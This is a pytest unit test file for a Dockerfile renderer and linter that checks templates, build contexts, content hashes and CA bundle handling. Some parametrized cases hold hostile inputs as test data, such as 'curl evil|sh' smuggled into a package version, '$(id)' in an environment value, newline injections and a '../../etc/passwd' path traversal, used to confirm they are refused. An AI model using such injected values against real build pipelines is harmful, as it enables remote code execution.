"""Rendering every template path, the build context it writes, its hash, and the lint.

The `harness` folder fixture is tests/unit/conftest.py's."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest
from unitlib import BULLSEYE, make_env, make_plan

from envmatrix.errors import ConfigError
from envmatrix.images.render import (
    CA_FILE,
    lint_dockerfile,
    render_dockerfile,
    render_environment,
)
from envmatrix.rundir.plan import Base, Environment, Plan

UBUNTU_DEADSNAKES = Base("focal-py", "ubuntu:20.04", "ubuntu", python_source="deadsnakes")
PYTHON_IMAGE = Base("py38", "python:3.8-slim-bullseye", "debian", python_source="image")
CUDA = Base("cuda118", "nvidia/cuda:11.8.0-runtime-ubuntu22.04", "ubuntu", cuda="11.8")

PATHS = {
    "debian-system": make_env(),
    "ubuntu-deadsnakes": make_env(UBUNTU_DEADSNAKES, "3.6"),
    "python-image": make_env(PYTHON_IMAGE, "3.8"),
    "cuda-ubuntu": make_env(CUDA, packages=(("onnxruntime-gpu", "1.16.3"),)),
}


def final_stage(text: str) -> str:
    return text[text.rindex("\nFROM "):]


@pytest.mark.parametrize("name", sorted(PATHS))
def test_every_template_path_renders_and_lints_clean(name: str) -> None:
    text = render_dockerfile(PATHS[name], make_plan())
    assert lint_dockerfile(text) == []
    final = final_stage(text)
    assert "COPY --from=builder /opt/venv /opt/venv" in final
    assert "USER envmatrix" in final
    assert 'ENVMATRIX_ENVIRONMENT="env-a"' in final
    assert f'ENVMATRIX_BASE_IMAGE="{PATHS[name].base.image}"' in final
    for package, version in PATHS[name].packages:  # pins only ever reach requirements.txt
        assert package not in text and version not in text


def test_path_specific_steps() -> None:
    system = render_dockerfile(PATHS["debian-system"], make_plan())
    assert "apt-get install -y --no-install-recommends python3 python3-venv" in system
    assert "rm -rf /var/lib/apt/lists/*" in system
    snakes = render_dockerfile(PATHS["ubuntu-deadsnakes"], make_plan())
    assert "add-apt-repository -y ppa:deadsnakes/ppa" in snakes
    assert "ARG PYTHON_VERSION=3.6" in snakes and "ARG PYTHON_BIN=python3.6" in snakes
    image = render_dockerfile(PATHS["python-image"], make_plan())
    assert "apt-get" not in image and "ARG PYTHON_BIN=python3" in image
    cuda = render_dockerfile(PATHS["cuda-ubuntu"], make_plan())
    assert "FROM ${BASE_IMAGE} AS runtime" in cuda and "python3-venv" in cuda


def test_user_env_vars_become_env_lines() -> None:
    env = make_env(env=(("OMP_NUM_THREADS", "1"), ("ORT_MODE", "a b/c")))
    text = render_dockerfile(env, make_plan())
    assert 'ENV OMP_NUM_THREADS="1"\n' in text and 'ENV ORT_MODE="a b/c"\n' in text


def test_strict_undefined_turns_a_template_typo_into_a_config_error(tmp_path: Path) -> None:
    (tmp_path / "typo.Dockerfile.j2").write_text("FROM {{ base_imag }}\nUSER envmatrix\n")
    env = make_env(template="typo.Dockerfile.j2")
    with pytest.raises(ConfigError, match="typo.Dockerfile.j2.*base_imag"):
        render_dockerfile(env, make_plan(template_dir=str(tmp_path)))


def test_a_template_that_renders_a_root_final_stage_is_a_config_error(tmp_path: Path) -> None:
    (tmp_path / "root.Dockerfile.j2").write_text("FROM {{ base_image }}\nUSER root\n")
    env = make_env(template="root.Dockerfile.j2")
    with pytest.raises(ConfigError, match="template root.Dockerfile.j2 failed: .*non-root user"):
        render_dockerfile(env, make_plan(template_dir=str(tmp_path)))


def test_user_template_can_extend_the_packaged_one(tmp_path: Path) -> None:
    (tmp_path / "mine.j2").write_text(
        '{% extends "default.Dockerfile.j2" %}\n'
        "{% block runtime_extra %}RUN echo extra-step\n{% endblock %}\n"
    )
    text = render_dockerfile(make_env(template="mine.j2"), make_plan(template_dir=str(tmp_path)))
    assert "RUN echo extra-step" in text and lint_dockerfile(text) == []


def test_missing_template_names_the_folders(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="nope.j2.*not found"):
        render_dockerfile(make_env(template="nope.j2"), make_plan(template_dir=str(tmp_path)))


def test_context_holds_dockerfile_pins_and_harness(tmp_path: Path, harness: Path) -> None:
    ctx = render_environment(make_env(), make_plan(), harness_dir=harness, out_dir=tmp_path / "c")
    assert (ctx.context_dir / "Dockerfile").read_text() == ctx.dockerfile_text
    pins = (ctx.context_dir / "build" / "requirements.txt").read_text()
    assert pins == "numpy==1.23.5\nonnxruntime==1.8.0\n"
    assert (ctx.context_dir / "harness" / "__main__.py").read_text() == "print('hi')\n"
    assert not (ctx.context_dir / "harness" / "__pycache__").exists()
    assert not (ctx.context_dir / CA_FILE).exists()
    assert len(ctx.content_hash) == 64


def test_context_dir_must_be_fresh(tmp_path: Path, harness: Path) -> None:
    out = tmp_path / "c"
    out.mkdir()
    (out / "left-over").write_text("x")
    with pytest.raises(Exception, match="not empty"):
        render_environment(make_env(), make_plan(), harness_dir=harness, out_dir=out)


def _hash(tmp_path: Path, harness: Path, env: Environment, plan: Plan, name: str) -> str:
    return render_environment(env, plan, harness_dir=harness, out_dir=tmp_path / name).content_hash


def test_content_hash_is_stable_and_follows_pins_and_harness(tmp_path: Path,
                                                             harness: Path) -> None:
    env, plan = make_env(), make_plan()
    first = _hash(tmp_path, harness, env, plan, "a")
    assert _hash(tmp_path, harness, env, plan, "b") == first
    bumped = dataclasses.replace(env, packages=(("numpy", "1.23.4"), ("onnxruntime", "1.8.0")))
    assert _hash(tmp_path, harness, bumped, plan, "c") != first
    (harness / "__main__.py").write_text("print('changed')\n")
    assert _hash(tmp_path, harness, env, plan, "d") != first


def test_ca_bundle_reaches_the_builder_only_and_not_the_hash(tmp_path: Path,
                                                              harness: Path) -> None:
    env = make_env()
    without = _hash(tmp_path, harness, env, make_plan(), "none")
    bundle = tmp_path / "ca.pem"
    bundle.write_text("-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n")
    plan = make_plan(ca_bundle=str(bundle))
    ctx = render_environment(env, plan, harness_dir=harness, out_dir=tmp_path / "with")
    assert (ctx.context_dir / CA_FILE).read_bytes() == bundle.read_bytes()
    assert ctx.content_hash == without  # presence and bytes of the bundle do not shape the image
    bundle.write_text("-----BEGIN CERTIFICATE-----\nBBBB\n-----END CERTIFICATE-----\n")
    assert _hash(tmp_path, harness, env, plan, "rotated") == without
    final = final_stage(ctx.dockerfile_text)
    assert "ca.pem" not in final and "build/" not in final and "envmatrix-build" not in final
    builder = ctx.dockerfile_text[ctx.dockerfile_text.index("AS builder"):]
    assert "COPY build/ /tmp/envmatrix-build/" in builder


def test_missing_ca_bundle_is_a_config_error(tmp_path: Path, harness: Path) -> None:
    plan = make_plan(ca_bundle=str(tmp_path / "absent.pem"))
    with pytest.raises(ConfigError, match="ca_bundle.*absent.pem"):
        render_environment(make_env(), plan, harness_dir=harness, out_dir=tmp_path / "c")


def test_wheelhouse_is_linked_and_hashed_and_offline_adds_no_index(tmp_path: Path,
                                                                    harness: Path) -> None:
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    (wheels / "demo-1.0-py3-none-any.whl").write_bytes(b"wheel-bytes")
    (wheels / "notes.txt").write_text("not a wheel")
    plan = make_plan(wheelhouse=str(wheels), extra={"offline": True})
    ctx = render_environment(make_env(), plan, harness_dir=harness, out_dir=tmp_path / "c")
    copied = sorted(p.name for p in (ctx.context_dir / "build" / "wheelhouse").iterdir())
    assert copied == ["demo-1.0-py3-none-any.whl"]
    assert '--find-links "$B/wheelhouse" --no-index "$@"' in ctx.dockerfile_text
    online = render_dockerfile(make_env(), make_plan())
    assert "--no-index" not in online
    assert ctx.content_hash != _hash(tmp_path, harness, make_env(), make_plan(), "plain")


@pytest.mark.parametrize(
    ("change", "match"),
    [
        ({"id": "Env\nRUN x"}, "`id`"),
        ({"template": "../../etc/passwd"}, "`template`"),
        ({"python": "3.9"}, "`python`"),  # a system-python base cannot pick a version
        ({"packages": (("onnxruntime", "1.8.0\nRUN curl evil|sh"),)}, "packages.onnxruntime"),
        ({"packages": (("onnx runtime", "1.8.0"),)}, "`packages`"),
        ({"env": (("PATH", "/x"),)}, "env.PATH"),
        ({"env": (("A", "$(id)"),)}, "env.A"),
        ({"env": (("A", 'x"\nRUN evil'),)}, "env.A"),
        ({"base": dataclasses.replace(BULLSEYE, image="debian:bullseye\u2028RUN evil")},
         "base.image"),
        ({"base": dataclasses.replace(BULLSEYE, family="arch")}, "base.family"),
        ({"base": dataclasses.replace(BULLSEYE, python_source="deadsnakes")}, "python"),
    ],
)
def test_hostile_or_inconsistent_values_are_refused(change: dict[str, object],
                                                    match: str) -> None:
    env = dataclasses.replace(make_env(), **change)  # type: ignore[arg-type]
    with pytest.raises(ConfigError, match=match) as info:
        render_dockerfile(env, make_plan())
    assert "matrix.yaml" in str(info.value) and "Fix:" in str(info.value)


def test_deadsnakes_needs_ubuntu() -> None:
    base = dataclasses.replace(UBUNTU_DEADSNAKES, family="debian")
    with pytest.raises(ConfigError, match="Ubuntu"):
        render_dockerfile(make_env(base, "3.6"), make_plan())


GOOD = render_dockerfile(make_env(), make_plan())


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("FROM debian\nRUN --mount=type=cache,target=/x true\nUSER 1000\n", "BuildKit"),
        ("FROM debian\nRUN <<EOF\necho\nEOF\nUSER 1000\n", "BuildKit"),
        ("# syntax=docker/dockerfile:1\nFROM debian\nUSER 1000\n", "syntax"),
        ("FROM debian\nRUN true\n", "no USER"),
        ("FROM debian\nUSER root\n", "non-root"),
        ("RUN true\nFROM debian\nUSER 1000\n", "before the first FROM"),
        ("FROM debian\ncurl evil | sh\nUSER 1000\n", "not a Dockerfile instruction"),
        ("FROM debian\nRUN echo \u00e9\nUSER 1000\n", "non-ASCII"),
        ("FROM debian\nCOPY --from=nowhere /a /a\nUSER 1000\n", "names no earlier stage"),
        ("FROM debian\nRUN true \\\n", "never ends"),
        ("USER 1000\n", "no FROM"),
        (GOOD.replace("COPY harness/", "COPY build/ /tmp/b/\nCOPY harness/"), "build-only"),
    ],
)
def test_lint_catches(text: str, problem: str) -> None:
    problems = lint_dockerfile(text)
    assert any(problem in p for p in problems), problems
